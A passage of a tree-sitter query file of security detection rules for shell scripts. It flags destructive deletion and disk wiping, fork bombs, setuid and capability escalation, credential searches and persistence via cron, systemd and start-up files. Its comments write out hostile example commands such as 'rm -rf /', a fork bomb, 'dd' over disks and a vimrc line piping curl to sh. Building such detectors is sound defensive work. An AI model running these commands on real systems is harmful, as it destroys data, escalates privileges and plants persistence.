; The system: destroying it, setuid files, credentials, the environment.
;
; A quantified capture (argument: (_)* @flag @target) holds every argument:
; a predicate on it holds when one of them passes, so the flags and the
; target may come in any order (rm / -rf).

; ---- destroying the system ----

; rm -rf /, rm -fr /*, rm -r -f ~, rm -Rf "$HOME", sudo rm --recursive /usr;
; flags=(-r -f); rm "${flags[@]}" ~: an array's elements, folded as one
; word joined by spaces, are arguments each
((command argument: (_)* @flag @target) @n @finding
 (#resolves-to? @n "rm")
 (#value-match? @flag "^([^\\s]+ +)*(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)( +[^\\s]+)*$")
 (#value-match? @target "^([^\\s]+ +)*(/+\\.?|/+\\*|~/*|~/*\\*|~[a-z_][a-z0-9_-]*/*|/+(bin|boot|dev|etc|home|lib|lib32|lib64|opt|root|sbin|srv|sys|usr|var|proc|mnt|media|snap)/*\\*?|(~|/+)/*\\{[^}/]*\\*[^}/]*\\})( +[^\\s]+)*$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes a whole system or home directory"))

; printf 'R %%h - - - - -\n' > x.conf; systemd-tmpfiles --user --remove
; x.conf: a tmpfiles.d line whose R (or D, e) removes a directory
; recursively, given the home (%h, ~, /home/u, /root) or / : written in a
; string or a here-document, for systemd-tmpfiles now or at every boot
([(heredoc_body) (string) (raw_string) (ansi_c_string)] @finding
 (#value-match? @finding "(^|\\n)[ \\t]*[RrDe]!?[ \\t]+(%%?h|~|\\$\\{?HOME\\}?|/home/[^/\\s]+|/root|/)/*([ \\t\\n]|$)")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "writes a tmpfiles.d line that removes a whole home or system directory recursively (R %h)"))

; find ... | xargs rm -rf, echo "$HOME" | xargs rm -r: what is deleted comes
; from a pipe, out of sight (xargs's own -r, xargs -0 -r rm -f, is not
; rm's: the options count after the program xargs runs)
((command) @n @finding
 (#resolves-to? @n "rm")
 (#match? @n "^(\\S*/)?(sudo\\s+)?xargs(?>(\\s+(-[nPILdsEa]\\s*\\S+|-\\S+))*)\\s+[^-\\s]\\S*\\s+(.*\\s)?[\"']?(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)[\"']?(\\s|$)")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes recursively whatever a pipe names (xargs rm -r), which may be a whole home or system directory"))

; alias tidy='rm -rf'; tidy ~: the options are in the alias
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "rm( +-[a-zA-Z-]*)* +(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)( +-[a-zA-Z-]*)*")
 (#value-match? @target "^(/+\\.?|/+\\*|~/*|~/*\\*|~[a-z_][a-z0-9_-]*/*|/+(bin|boot|dev|etc|home|lib|lib32|lib64|opt|root|sbin|srv|sys|usr|var|proc|mnt|media|snap)/*\\*?)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes a whole system or home directory"))

; cmd=(rm -rf ~); "${cmd[@]}", set -- rm -rf ~; "$@": the whole command line
; is in a variable
((command) @n @finding
 (#resolves-to? @n "rm( +-[a-zA-Z-]+)*( +-[a-zA-Z]*[rR][a-zA-Z]*| +--recursive)( +-[a-zA-Z-]+)*( +[^ ]+)* +(/+\\.?|/+\\*|~/*|~/*\\*|/+(bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|usr|var)/*\\*?)( .*)?")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes a whole system or home directory"))

; ln -sfn "$HOME" "$link"; ...; rm -rf "$link"/*, ln -s / root; rm -r -f
; ./root/: a symlink the program made to the home or root directory,
; emptied through it (a glob under the link, or the link with a trailing
; slash): the rm names only a local path
((command argument: (_)* @flag @target) @n @finding
 (#resolves-to? @n "rm")
 (#value-match? @flag "^([^\\s]+ +)*(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)( +[^\\s]+)*$")
 (#match? @target "/[\"']?(\\*|\\.\\*|\\.\\[[^]]*\\]\\*)?[\"']?$")
 (#links-home? @target)
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes everything in a whole home or system directory through a symlink the program made to it"))

; mv ~ /tmp/old-home, mv "$HOME" "$HOME.bak", sudo mv /usr /usr.x: the whole
; home or a system directory moved away, gone from where everything looks
; for it (a file or directory under it, mv ~/a ~/b, is not)
((command argument: (_) @src . argument: (_)) @n @finding
 (#resolves-to? @n "mv")
 (#value-match? @src "^(~/*|/+home/+[^/]+/*|/+(bin|boot|etc|home|lib|lib32|lib64|opt|root|sbin|srv|usr|var)/*)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "moves a whole home or system directory away (mv), which removes it from where everything looks for it"))

; rm --no-preserve-root
((command argument: (_) @flag) @n @finding
 (#resolves-to? @n "rm")
 (#value-match? @flag "^--no-preserve-root$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes with --no-preserve-root, which lets rm remove the whole system"))

; rsync -a --delete empty/ ~/: a copy that deletes what the source lacks
; in its destination, the last word (~/ as the source deletes nothing of it)
((command argument: (_) @target .) @n @finding
 (#resolves-to? @n "rsync")
 (#match? @n "\\s--del(ete(-before|-during|-delay|-after|-excluded)?)?(\\s|$)")
 (#value-match? @target "^(/+\\.?|~/*|~[a-z_][a-z0-9_-]*/*|/+(bin|boot|etc|home|lib|lib32|lib64|opt|root|sbin|srv|usr|var)/*)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "empties a whole system or home directory (rsync --delete into it)"))

; cd ~ && rm -rf ./*, cd /; rm -rf *, cd; find . -delete, cd ~/.. (the
; homes: /home) then for d in ./*/; do rm -rf "$d"; done: the home, root
; or homes directory made the working directory (the last cd before the
; command, through lists, loops and ifs: #after-cd-match?), then emptied by
; a relative name.
((command argument: (_)* @target) @n @finding
 (#resolves-to? @n "rm|find")
 (#match? @n "^(\\S*/)?(rm\\s(.*\\s)?(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)(\\s|$)|find\\s+\\.?/*\\s(.*\\s)?-delete(\\s|$))")
 (#value-match? @target "^(\\./*|\\./*\\*/?|\\*/?|\\.\\*|\\.\\[.*\\]\\*?|\\.\\?\\*)$")
 (#after-cd-match? @n "^(~|/home|/home/[^/]+|/root|/)/*$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "goes to the home or root directory and deletes everything in it"))

; $a $b ~, "$tool" -rf / (tool never given a constant value): a program
; that cannot be known, given the home or root directory and rm's -rf or an
; unquoted expansion (options kept in a variable)
((command name: (command_name (_) @name) argument: (_) @target) @n @finding
 (#type? @name "simple_expansion" "expansion" "string" "concatenation" "command_substitution")
 (#not-value-match? @name "")
 (#match? @n "^\\S+\\s(.*\\s)?([\"']?-([dIiv]*[rR][dIiv]*f|[dIiv]*f[dIiv]*[rR])[dIiRrfv]*[\"']?|\\$\\{?[A-Za-z_][A-Za-z0-9_]*\\}?)\\s")
 (#value-match? @target "^(/+|/+\\*|~/*|~/*\\*)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "runs a program it does not name, recursively or with options it does not name, on the home or root directory"))

; cd ~ || exit; git init -q .; git clean -ffdx: the home or root directory
; made the working directory (then a work tree), and git clean -x or -d
; removing every file git does not track, which is all of them; git -C ~
; clean -fdx, git --work-tree=/ clean -fdx likewise
((_ [(command argument: (_) argument: (_)) @n @stmt (list (command argument: (_) argument: (_)) @n) @stmt]) @finding
 (#match? @n "\\sclean\\s(.*\\s)?-[a-zA-Z]*[xXd]")
 (#resolves-to? @n "git")
 (#match? @n "\\sclean\\s(.*\\s)?(-[a-zA-Z]*f|--force)")
 (#after-match? @stmt "^(cd|pushd)\\s+(--\\s+)?(~/?|\"?\\$\\{?HOME\\}?\"?/?|/+)\\s*$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "goes to the home or root directory and removes every file git does not track there (git clean)"))

((command) @n @finding
 (#resolves-to? @n "git")
 (#match? @n "^(\\S*/)?git\\s+(.*\\s)?(-C\\s+|--work-tree[=\\s])(~/?|\"?\\$\\{?HOME\\}?\"?/?|/+)\\s(.*\\s)?clean\\s(.*\\s)?-[a-zA-Z]*[xXd]")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "removes every file git does not track in the home or root directory (git clean)"))

; cmake -E remove_directory ~, cmake -E rm -rf /: cmake's portable commands
; given a whole home or system directory
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "cmake")
 (#match? @n "^(\\S*/)?cmake\\s+-E\\s+(remove_directory|rm\\s+(.*\\s)?-[a-zA-Z]*[rR][a-zA-Z]*)\\s")
 (#value-match? @target "^(/+\\.?|/+\\*|~/*|~/*\\*|~[a-z_][a-z0-9_-]*/*|/+(bin|boot|etc|home|lib|lib32|lib64|opt|root|sbin|srv|usr|var)/*\\*?)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes a whole system or home directory recursively (cmake -E remove_directory)"))

; tar --remove-files -cf /dev/null ~, zip -rm x.zip /, rsync
; --remove-source-files ~/ h:, 7z a -sdel x.7z ~: an archiver or a copy
; that deletes what it took, given a whole home or system directory; rclone
; purge ~, rclone delete --rmdirs /etc: rclone given a local path removes it
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "tar|bsdtar|gtar|zip|7z|7za|7zr|rsync|rclone")
 (#match? @n "(^|\\s)((\\S*/)?(tar|bsdtar|gtar)\\s(.*\\s)?--remove-files|(\\S*/)?zip\\s(.*\\s)?(-[a-zA-Z]*m[a-zA-Z]*|--move)|(\\S*/)?7z[ar]?\\s(.*\\s)?-sdel|(\\S*/)?rsync\\s(.*\\s)?--remove-source-files|(\\S*/)?rclone\\s(.*\\s)?(purge|delete|rmdirs))(\\s|$)")
 (#value-match? @target "^(/+\\.?|/+\\*|~/*|~/*\\*|~[a-z_][a-z0-9_-]*/*|/+(bin|boot|etc|home|lib|lib32|lib64|opt|root|sbin|srv|usr|var)/*\\*?)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes a whole system or home directory through an archiver or a copy that removes what it took (tar --remove-files, zip -m, rsync --remove-source-files, rclone purge)"))

; tmpreaper 0s ~, tmpwatch --all 0 /etc: an age-based cleaner given a whole
; home or system directory deletes every file there older than the age (0,
; every file; any age, most of them); /tmp, /var/tmp or a directory under
; the home are what it is for
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "tmpreaper|tmpwatch")
 (#value-match? @target "^(/+\\.?|~/*|~[a-z_][a-z0-9_-]*/*|/+home/+[^/]+/*|/+(bin|boot|etc|home|lib|lib32|lib64|opt|root|sbin|srv|usr|var)/*)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes the files of a whole system or home directory by age (tmpreaper, tmpwatch)"))

; find / -delete, find ~ -type f -exec rm -f {} +, find / -exec shred -u {} \;:
; every file under the home or root directory deleted or overwritten (files
; picked by name, find ~ -name '*.pyc' -delete, are not every file)
((command argument: (_)* @target @act) @n @finding
 (#resolves-to? @n "find")
 (#value-match? @act "^-delete$")
 (#value-match? @target "^(/+|~/*|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*)$")
 (#not-match? @n "\\s-(i?name|i?path|i?wholename|i?regex|i?lname)\\s+(?![\"']?\\*[\"']?(\\s|$))")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes a whole system or home directory"))

((command argument: (_)* @target) @n @finding
 (#resolves-to? @n "find")
 (#match? @n "\\s-(exec|execdir|ok|okdir)\\s+((\\S*/)?(rm|shred|unlink|truncate|wipe|srm)\\s|(\\S*/)?(ba|da|z|k)?sh\\s+-[a-zA-Z]*c\\s+(?<q>['\"])((?!\\k<q>).)*((?<![\\w./-])(rm|shred|unlink|truncate)\\s|>\\s*['\"]?\\$))")
 (#value-match? @target "^(/+|~/*|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*)$")
 (#not-match? @n "\\s-(i?name|i?path|i?wholename|i?regex|i?lname)\\s+(?![\"']?\\*[\"']?(\\s|$))")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes or overwrites every file under a whole system or home directory (find -exec rm)"))

; fd -H . ~ -X rm -rf, fdfind . / --exec shred -u: the same through fd's
; -x/--exec and -X/--exec-batch, given a pattern that every name matches (.,
; ^, '') and no extension or glob; ansible localhost -m file -a "path=$HOME
; state=absent": Ansible's file module told to remove such a directory
((command argument: (_)* @target) @n @finding
 (#resolves-to? @n "fd|fdfind|ansible")
 (#match? @n "^(?=.*\\s(-[a-zA-Z]*[xX]|--exec(-batch)?)(\\s+|=)[\"']?(\\S*/)?(rm|shred|unlink|truncate|wipe|srm)[\"']?\\s)(?=.*\\s([\"']?[.^][\"']?|''|\"\")\\s)|\\s(-m|--module-name)(\\s+|=)[\"']?(ansible\\.(builtin|legacy)\\.)?file[\"']?(\\s|$)")
 (#value-match? @target "^(/+|~/*|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*)$|(^|\\s)(path|dest|name)=[\"']?(/+|~[a-z_0-9-]*/*|/+(home/[^/\\s]+|bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*)[\"']?(\\s|$)")
 (#value-match? @target "^(/+|~/*|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*)$|(^|\\s)state=[\"']?absent")
 (#not-match? @n "\\s(-[a-zA-Z]*[eg]|--extension|--glob)(\\s|=)")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes or overwrites every file under a whole system or home directory (fd -X rm, Ansible's file module with state=absent)"))

; find ~ -type f -print0 | xargs -0 shred -u: the same through xargs
((pipeline (command name: (_) . argument: (_) @target) @src . (command) @x) @finding
 (#resolves-to? @src "find")
 (#value-match? @target "^(/+|~/*|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*)$")
 (#not-match? @src "\\s-(i?name|i?path|i?wholename|i?regex|i?lname)\\s+(?![\"']?\\*[\"']?(\\s|$))")
 (#resolves-to? @x "xargs")
 (#resolves-to? @x "rm|shred|unlink|truncate|wipe|srm")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes or overwrites every file under a whole system or home directory (find | xargs rm)"))

; for f in ~/**; do : >"$f"; done, > ~/*: every file of the home or root
; directory emptied by a redirection (>> appends, and is not)
((file_redirect destination: (_) @dst) @finding
 (#not-match? @finding "^[0-9]*(>>|&>>|<)")
 (#value-match? @dst "^(~/*|/+|/+home/+\\*/+|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/+)(\\*\\*/+)?\\.?\\*+$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "empties every file of a whole system or home directory (a > redirection over a glob of it)"))

; : | tee ~/* ~/.*: every file of the home or root directory overwritten
; with what tee reads (tee -a appends, and is not)
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "tee")
 (#not-match? @n "\\s(-[a-zA-Z]*a[a-zA-Z]*|--append)(\\s|$)")
 (#value-match? @target "^(~/*|/+|/+home/+\\*/+|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/+)(\\*\\*/+)?\\.?\\*+$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "overwrites every file of a whole system or home directory (tee over a glob of it)"))

; rm -f ~/**, rm ~/**/*: with globstar, every file under the home or root
; directory
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "rm|shred|truncate|unlink")
 (#value-match? @target "^(~/*|/+|/+home/+\\*/+)\\*\\*(/+\\.?\\*+)?$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "deletes or empties every file under a whole system or home directory (a ** glob)"))

; shred -u ~/*, truncate -s 0 ~/*: every file of the home directory
; overwritten or emptied
((command argument: (_) @target) @n @finding
 (#resolves-to? @n "shred|truncate|wipe|srm")
 (#value-match? @target "^(~/*\\*|~/*\\.\\*|/+\\*|~|/+|/+(bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)/*\\*)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "overwrites or empties every file of a whole system or home directory (shred, truncate)"))

; chmod -R 777 /, chown -R nobody /
((command argument: (_)* @flag @target) @n @finding
 (#resolves-to? @n "chmod|chown|chgrp")
 (#value-match? @flag "^-[a-zA-Z]*R[a-zA-Z]*$|^--recursive$")
 (#value-match? @target "^(/+|/+\\*|/+(bin|boot|etc|lib|lib64|sbin|usr|var)/*)$")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "changes the permissions or owner of the whole system"))

; mkfs.ext4 /dev/sdb1, mkfs -t xfs d, wipefs -a /dev/sda
((command) @n @finding
 (#resolves-to? @n "mkfs(\\.[A-Za-z0-9]+)?|mke2fs|mkswap|wipefs|mkdosfs|mkntfs")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "writes a new file system over a disk, destroying what is on it"))

; dd if=/dev/zero of=/dev/sda, shred /dev/nvme0n1
((command argument: (_) @dev) @n @finding
 (#resolves-to? @n "dd|shred|wipe|blkdiscard")
 (#value-match? @dev "^(of=)?/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/)")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "overwrites a disk device, destroying what is on it"))

; cat /dev/urandom > /dev/sda
((file_redirect destination: (_) @dev) @finding
 (#value-match? @dev "^/dev/(sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme[0-9]|mmcblk[0-9]|disk[0-9]|md[0-9]|dm-[0-9])")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "overwrites a disk device, destroying what is on it"))

; :(){ :|:& };:  bomb(){ bomb | bomb & }  f(){ f & f & }: a function that
; starts two copies of itself, each of which does the same
((function_definition
   name: (_) @f
   body: (compound_statement
           [(pipeline (command name: (command_name) @a) (command name: (command_name) @b))
            (list (pipeline (command name: (command_name) @a) (command name: (command_name) @b)))])) @finding
 (#eq? @f @a)
 (#eq? @f @b)
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "defines a fork bomb, which exhausts the machine's processes"))

((function_definition
   name: (_) @f
   body: (compound_statement (command name: (command_name) @a) "&" (command name: (command_name) @b))) @finding
 (#eq? @f @a)
 (#eq? @f @b)
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "defines a fork bomb, which exhausts the machine's processes"))

; ---- setuid ----

; chmod +s f, chmod u+s f, chmod g=rxs d, chmod 4755 f, sudo chmod 6755 f
((command argument: (_) @mode) @n @finding
 (#resolves-to? @n "chmod")
 (#value-match? @mode "^0*[2-7][0-7]{3}$|^([ugoa]*[-+=][rwxXstugo]*,)*[ugoa]*[+=][rwxXtugo]*s")
 (#set! id "sh-setuid")
 (#set! severity "high")
 (#set! message "sets the set-user-id or set-group-id bit, a classic privilege escalation"))

; install -m 4755 f /usr/local/bin/f
((command argument: (_) @opt . argument: (_) @mode) @n @finding
 (#resolves-to? @n "install")
 (#match? @opt "^(-m|--mode)$")
 (#value-match? @mode "^0*[2-7][0-7]{3}$|[ugoa]*[+=][rwxXtugo]*s")
 (#set! id "sh-setuid")
 (#set! severity "high")
 (#set! message "installs a set-user-id or set-group-id file, a classic privilege escalation"))

; setcap cap_setuid+ep f
((command argument: (_) @cap) @n @finding
 (#resolves-to? @n "setcap")
 (#value-match? @cap "(?i)cap_(setuid|setgid|sys_admin|sys_ptrace|sys_module|dac_override|dac_read_search|chown|fowner)|^all[+=]")
 (#set! id "sh-setuid")
 (#set! severity "high")
 (#set! message "gives a file a capability that amounts to root, a classic privilege escalation"))

; ---- credentials ----

; grep -r 'AKIA[0-9A-Z]{16}' /, find / -name '*.pem': the machine searched
; for secrets (key patterns, key files by name); grep -E "$p" <<< "$text"
; searches a value the program holds, not the machine
((command argument: (_) @pat) @n @finding
 (#resolves-to? @n "[ezf]?grep|zgrep|rg|ag|ack|find|locate|plocate|mlocate")
 (#not-match? @n "^(\\S*/)?[ezf]?grep\\s(?!(.*\\s)?(-[a-zA-Z]*[rRd]|--(dereference-)?recursive|--directories))[^|<>]*<<<")
 (#value-match? @pat "AKIA\\[|ASIA\\[|BEGIN ([A-Z]+ )?PRIVATE KEY|ghp_|github_pat_|xox\\[?[abprs]|sk_live_")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "searches the machine for secrets (key patterns, key files by name)"))

; find / -name '*.pem', locate id_rsa: key files searched for by name (a
; file grep reads, grep KEY .env, is not a search for it)
((command argument: (_) @pat) @n @finding
 (#resolves-to? @n "find|locate|plocate|mlocate|fd|fdfind")
 (#value-match? @pat "^\\*\\.(pem|key|p12|pfx|kdbx|ppk|jks|keystore|gpg)$|^\\*?id_(rsa|dsa|ecdsa|ed25519)?\\*$|^(credentials|\\.env|\\.netrc|\\.pgpass|\\.git-credentials)$")
 (#set! id "sh-credentials")
 (#set! severity "high")
 (#set! message "searches the machine for secrets (key patterns, key files by name)"))

; echo '* * * * * root cmd' > /etc/cron.d/x, tee -a /var/spool/cron/crontabs/u:
; a job written where cron reads them; cat > ~/.config/systemd/user/x.service,
; cp x.desktop ~/.config/autostart/: a unit systemd starts, or a program the
; desktop starts at every login, written where they read them; cat >
; /etc/network/if-up.d/x: a script the system runs at an event ((?&event_hooks))
((file_redirect destination: (_) @dst) @finding
 (#value-match? @dst "^/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|$)|crontab$|anacrontab$)|^/var/spool/cron(/|$)|(^|/)\\.config/(systemd/user/|autostart/)|^/etc/(systemd/(system|user)|xdg/autostart)/|^/(usr/)?lib/systemd/(system|user)/|(^|/)\\.ipython/profile_[^/]+/startup/|(^|/)\\.local/bin/(sudo|su|ssh|scp|ls|cat|ps|gpg)$|(?&event_hooks)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a scheduled job or a service where cron, systemd or the desktop reads it: what it runs later was not checked"))

((command) @n @finding
 (#resolves-to? @n "tee|cp|mv|install|ln|rsync|dd")
 (#match? @n "\\s/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|\\s|$)|crontab(\\s|$)|anacrontab(\\s|$))|\\s/var/spool/cron(/|\\s|$)|[\\s/=]\\.config/(systemd/user|autostart)(/|\\s|$)|[\\s=]/etc/(systemd/(system|user)|xdg/autostart)(/|\\s|$)|[\\s/=]\\.ipython/profile_[^/\\s]+/startup/|[\\s/=]\\.local/bin/(sudo|su|ssh|scp|ls|cat|ps|gpg)[\"']?(\\s|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a scheduled job or a service where cron, systemd or the desktop reads it: what it runs later was not checked"))

; printf '#!/bin/sh\n...' | sudo tee /etc/NetworkManager/dispatcher.d/90-x,
; cp x /lib/systemd/system-sleep/: a script the system runs at an event (the
; network coming up, a DHCP lease, resume from sleep, a login), written
; where it looks for them by the last word of a copy (its value)
((command argument: (_) @dst .) @n @finding
 (#resolves-to? @n "tee|cp|mv|install|ln|rsync|dd")
 (#value-match? @dst "(?&event_hooks)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a script where the system runs it at an event (network up, resume, login): what it runs later was not checked"))

; crontab FILE, crontab -: a job installed to run later, which nothing checks
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "crontab")
 (#match? @arg "^(-|[^-].*)$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "installs a scheduled job (crontab): what it runs later was not checked"))

; VISUAL="sed -i '\$a * * * * * cmd'" crontab -e, EDITOR='tee -a' crontab -e
; <<< LINE: crontab -e runs its editor on the crontab's file, and
; an editor that is itself a program writing text (sed, tee, a shell)
; installs a job nobody typed; a real editor (EDITOR=vim) is left to the user
((command argument: (word) @e) @n @finding
 (#match? @e "^-e$")
 (#match? @n "^(VISUAL|EDITOR)=[\"']?\\s*(\\S*/)?(sed|tee|sh|bash|dash|zsh|cp|mv|dd|cat|[gm]?awk|perl|python[0-9.]*|ruby|printf|echo|sponge|install)\\s")
 (#resolves-to? @n "crontab")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "makes crontab -e's editor a program that writes the job itself (VISUAL=\"sed -i ...\"): what it runs later was not checked"))

; export VISUAL="sed -i '\$a JOB'" on a line of its own (declare -x, or an
; assignment), then crontab -e: the same editor, set earlier
((command argument: (word) @e) @n @finding
 (#match? @e "^-e$")
 (#resolves-to? @n "crontab")
 (#after-match? @n "^((export|declare\\s+-[a-zA-Z]*x[a-zA-Z]*|typeset\\s+-x)\\s+)?(VISUAL|EDITOR)=[\"']?\\s*(\\S*/)?(sed|tee|sh|bash|dash|zsh|cp|mv|dd|cat|[gm]?awk|perl|python[0-9.]*|ruby|printf|echo|sponge|install)\\s")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "makes crontab -e's editor a program that writes the job itself (export VISUAL=\"sed -i ...\" before it): what it runs later was not checked"))

; echo 'autocmd VimEnter * !curl u | sh' >> ~/.vimrc, echo 'run-shell ...'
; | tee -a ~/.tmux.conf, printf '[core]\n\tpager = ...' >> ~/.gitconfig,
; echo LD_PRELOAD=... > ~/.config/environment.d/x.conf: a line that runs a
; command (vim's !, system(), tmux's run-shell, git's pager or fsmonitor,
; a preloaded library; R's system() in ~/.Rprofile, gdb's shell line in
; ~/.gdbinit, psql's \! in ~/.psqlrc, sqlite's .shell in ~/.sqliterc,
; os:cmd in ~/.erlang, run(`cmd`) in Julia's startup.jl, ghci's :!)
; written into another program's start-up file, and SendEnv * (or a
; pattern naming secrets) into ~/.ssh/config, which makes every later ssh
; send the environment; the same file's ordinary settings (set number,
; SendEnv LANG LC_*) are not
((redirected_statement redirect: (file_redirect destination: (_) @dst)) @finding
 (#value-match? @dst "(^|/)\\.(vimrc|gvimrc|exrc|Rprofile|octaverc|gdbinit|sqliterc|psqlrc|irbrc|pryrc|sbclrc|erlang|ghci|ocamlinit|julia/config/startup\\.jl|tmux\\.conf|gitconfig|pam_environment|config/(git/config|tmux/tmux\\.conf|nvim/init\\.(vim|lua)))$|(^|/)\\.(vim|config/nvim)/plugin/|(^|/)\\.config/environment\\.d/|(^|/)\\.ssh/config$|^/etc/ssh/ssh_config(\\.d/|$)")
 (#match? @finding "(^|[\\s:|\"'=])!\\s*[\\w./~$]|\\b(system2?|systemlist|jobstart|run-shell|if-shell|hooksPath|LD_PRELOAD|LD_AUDIT)\\b|\\bos:cmd\\b|\\bSys\\.command\\b|\\brun\\(\\s*(`|pipeline\\()|(^|\\n|\\\\n|[\"'])\\s*\\.?shell\\s|\\\\!\\s*\\S|(pager|fsmonitor|sshCommand|editor)\\s*=[^\\n]*[|;&$`(]|(?i:SendEnv)\\s*(=\\s*|[ \\t])[\"']?([^\\s\"'=]+[ \\t]+)*(\\*|\\S*(SECRET|TOKEN|PASSW|API_?KEY|AWS_|GITHUB_|CREDENTIAL)\\S*)([\\s\"']|\\\\n|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a command into another program's start-up file (vim, tmux, git, the session's environment), or SendEnv * into ssh's: it runs, or sends the environment, each time that program starts"))

((pipeline . (command) @n . (command argument: (_) @dst) @w .) @finding
 (#resolves-to? @w "tee|dd|sponge")
 (#value-match? @dst "(^(of=)?|/)\\.(vimrc|gvimrc|exrc|Rprofile|octaverc|gdbinit|sqliterc|psqlrc|irbrc|pryrc|sbclrc|erlang|ghci|ocamlinit|julia/config/startup\\.jl|tmux\\.conf|gitconfig|pam_environment|config/(git/config|tmux/tmux\\.conf|nvim/init\\.(vim|lua)))$|(^|/)\\.(vim|config/nvim)/plugin/|(^|/)\\.config/environment\\.d/|(^|/)\\.ssh/config$|^/etc/ssh/ssh_config(\\.d/|$)")
 (#match? @n "(^|[\\s:|\"'=])!\\s*[\\w./~$]|\\b(system2?|systemlist|jobstart|run-shell|if-shell|hooksPath|LD_PRELOAD|LD_AUDIT)\\b|\\bos:cmd\\b|\\bSys\\.command\\b|\\brun\\(\\s*(`|pipeline\\()|(^|\\n|\\\\n|[\"'])\\s*\\.?shell\\s|\\\\!\\s*\\S|(pager|fsmonitor|sshCommand|editor)\\s*=[^\\n]*[|;&$`(]|(?i:SendEnv)\\s*(=\\s*|[ \\t])[\"']?([^\\s\"'=]+[ \\t]+)*(\\*|\\S*(SECRET|TOKEN|PASSW|API_?KEY|AWS_|GITHUB_|CREDENTIAL)\\S*)([\\s\"']|\\\\n|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "writes a command into another program's start-up file (vim, tmux, git, the session's environment), or SendEnv * into ssh's: it runs, or sends the environment, each time that program starts"))

; the same line given to tee on its stdin: tee -a ~/.tmux.conf <<< "run-shell ..."
([(command redirect: (herestring_redirect) @n) @w
  (redirected_statement body: (command) @w (heredoc_redirect (heredoc_body) @n))] @finding
 (#resolves-to? @w "tee|dd|sponge")
 (#arg-value-match? @w "(^(of=)?|/)\\.(vimrc|gvimrc|exrc|Rprofile|octaverc|gdbinit|sqliterc|psqlrc|irbrc|pryrc|sbclrc|erlang|ghci|ocamlinit|julia/config/startup\\.jl|tmux\\.conf|gitconfig|pam_environment|config/(git/config|tmux/tmux\\.conf|nvim/init\\.(vim|lua)))$|(^|/)\\.(vim|config/nvim)/plugin/|(^|/)\\.config/environment\\.d/|(^|/)\\.ssh/config$|^/etc/ssh/ssh_config(\\.d/|$)")
